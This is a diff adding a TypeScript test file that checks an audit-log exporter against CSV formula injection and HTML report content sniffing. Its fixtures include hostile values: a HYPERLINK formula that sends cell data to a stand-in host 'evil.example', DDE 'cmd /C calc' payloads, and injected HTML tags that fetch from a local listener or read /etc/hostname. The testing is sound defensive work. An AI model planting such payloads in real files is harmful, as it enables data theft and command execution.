@@ -1,0 +1,169 @@
+/**
+ * What a client or an upstream sends lands in the exports: tool names and user agents built to
+ * run as spreadsheet formulas (in a comma or a semicolon locale), and to be rendered as a page
+ * of the exporter's own origin. Every CSV cell stays text, and every answer tells the browser
+ * not to guess its type; the HTML report forbids every request but the document itself.
+ */
+import { execFile } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import { writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { removeChdbTestPath } from '@proctor/audit-store/testing';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { tempDir } from '../../../test/harness';
+import { endedSession, startTestExporter, type TestExporter } from './testing-exporter';
+
+/** Values a client chooses, each built to start a formula once a spreadsheet reads the cell. */
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"open")',
+  // Harmless with ',' as the delimiter, a formula cell where ';' is (most of Europe).
+  "x;=1+cmd|' /C calc'!A0",
+  " =1+cmd|' /C calc'!A0",
+  "\u00a0@SUM(1+1)*cmd|' /C calc'!A0",
+  '\n=1+1',
+  '\uff1d1+1',
+  '\t=1+1',
+];
+
+let exporter: TestExporter;
+
+beforeAll(async () => {
+  exporter = await startTestExporter({ workers: false });
+  const session = endedSession('s-inj', 'tenant-a', FORMULAS.length, 0).map((event, i) => ({
+    ...event,
+    ...(i > 0 && i <= FORMULAS.length && { toolName: FORMULAS[i - 1] as string }),
+    userAgent: FORMULAS[i % FORMULAS.length] as string,
+  }));
+  await exporter.store.insertEvents(session);
+});
+
+afterAll(async () => {
+  await exporter?.close();
+  removeChdbTestPath();
+});
+
+/** The cells a spreadsheet reads from a CSV with `delimiter` (RFC 4180 quoting). */
+function spreadsheetCells(csv: string, delimiter: ',' | ';'): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < csv.length; i++) {
+    const c = csv[i] as string;
+    if (quoted) {
+      if (c !== '"') cell += c;
+      else if (csv[i + 1] === '"') cell += csv[++i];
+      else quoted = false;
+    } else if (c === '"' && cell === '') {
+      quoted = true;
+    } else if (c === delimiter || c === '\n') {
+      cells.push(cell.replace(/\r$/, ''));
+      cell = '';
+    } else {
+      cell += c;
+    }
+  }
+  if (cell !== '') cells.push(cell);
+  return cells;
+}
+
+/** A cell a spreadsheet would evaluate: a formula character first, past leading blanks (ASCII or full width). */
+const evaluated = (cell: string) => /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);
+
+describe('attacker-chosen values in the exports', () => {
+  it('never start a formula in a CSV cell, read with a comma or a semicolon as the delimiter', async () => {
+    for (const url of ['/v1/records/events?session=s-inj&format=csv', '/v1/sessions/s-inj/log?format=csv']) {
+      const res = await exporter.get('auditor', url);
+      expect(res.statusCode).toBe(200);
+      for (const delimiter of [',', ';'] as const) {
+        const formulas = spreadsheetCells(res.body, delimiter).filter(evaluated);
+        expect({ url, delimiter, formulas }).toEqual({ url, delimiter, formulas: [] });
+      }
+      // The values are all there, as text: only quote marks were added.
+      const cells = spreadsheetCells(res.body, ',').map((cell) => cell.replaceAll("'", ''));
+      for (const value of FORMULAS) expect(cells).toContain(value.replaceAll("'", ''));
+    }
+  });
+
+  it('are never sniffed as a page: every export says its type is final, the HTML report forbids any request', async () => {
+    for (const url of [
+      '/v1/records/events?session=s-inj&format=ndjson',
+      '/v1/records/events?session=s-inj&format=csv',
+      '/v1/records/events?session=s-inj',
+      '/v1/sessions/s-inj/log?format=fhir',
+      '/v1/sessions/s-inj/events',
+      '/v1/reports/hipaa?from=2025-01-01&to=2027-01-01&format=csv',
+    ]) {
+      const res = await exporter.get('auditor', url);
+      expect({ url, status: res.statusCode, nosniff: res.headers['x-content-type-options'] }).toEqual({
+        url,
+        status: 200,
+        nosniff: 'nosniff',
+      });
+    }
+    const html = await exporter.get('auditor', '/v1/reports/hipaa?from=2025-01-01&to=2027-01-01&format=html');
+    expect(html.statusCode).toBe(200);
+    const policy = String(html.headers['content-security-policy']);
+    expect(policy).toMatch(/default-src 'none'/);
+    expect(policy).not.toMatch(/script-src/);
+    // The saved file carries the same policy for whatever opens or prints it.
+    expect(html.body).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none';/);
+  });
+
+  it('make Chromium printing the saved HTML report to PDF request nothing, even if some escaped their escaping', async () => {
+    const chromium = ['/usr/bin/chromium', '/usr/bin/chromium-browser'].find((p) => existsSync(p));
+    if (!chromium)
+      throw new Error('this test needs Chromium: install it with `apt-get install chromium` (Debian)');
+    const requests: string[] = [];
+    const server = createServer((req, res) => {
+      requests.push(req.url ?? '');
+      res.writeHead(200, { 'content-type': 'text/css' }).end('body{}');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    try {
+      const at = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+      const escaped = [
+        `<img src="${at}/img">`,
+        `<link rel="stylesheet" href="${at}/link">`,
+        `<iframe src="${at}/iframe"></iframe>`,
+        '<iframe src="file:///etc/hostname"></iframe>',
+        `<object data="${at}/object"></object>`,
+        `<style>@import url(${at}/import);body{background:url(${at}/background)}</style>`,
+        `<svg><image href="${at}/svg-image"/></svg>`,
+        `<script>fetch('${at}/script')</script>`,
+      ].join('');
+      const res = await exporter.get(
+        'auditor',
+        '/v1/reports/hipaa?from=2025-01-01&to=2027-01-01&format=html',
+      );
+      const report = res.body.replace('</body>', `${escaped}</body>`);
+      const withoutPolicy = report.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
+      expect(withoutPolicy).not.toBe(report);
+      const dir = await tempDir('report-pdf');
+      const print = async (name: string, html: string) => {
+        const file = join(dir, `${name}.html`);
+        await writeFile(file, html);
+        await promisify(execFile)(
+          chromium,
+          [
+            '--headless',
+            '--no-sandbox',
+            '--disable-gpu',
+            `--print-to-pdf=${join(dir, `${name}.pdf`)}`,
+            `file://${file}`,
+          ],
+          { timeout: 90_000 },
+        );
+        return requests.splice(0);
+      };
+      // The same document without its policy fetches: the listener sees what Chromium asks for.
+      expect((await print('unprotected', withoutPolicy)).length).toBeGreaterThan(3);
+      expect(await print('report', report)).toEqual([]);
+      expect(existsSync(join(dir, 'report.pdf'))).toBe(true);
+    } finally {
+      await new Promise((resolve) => server.close(resolve));
+    }
+  }, 200_000);
+});
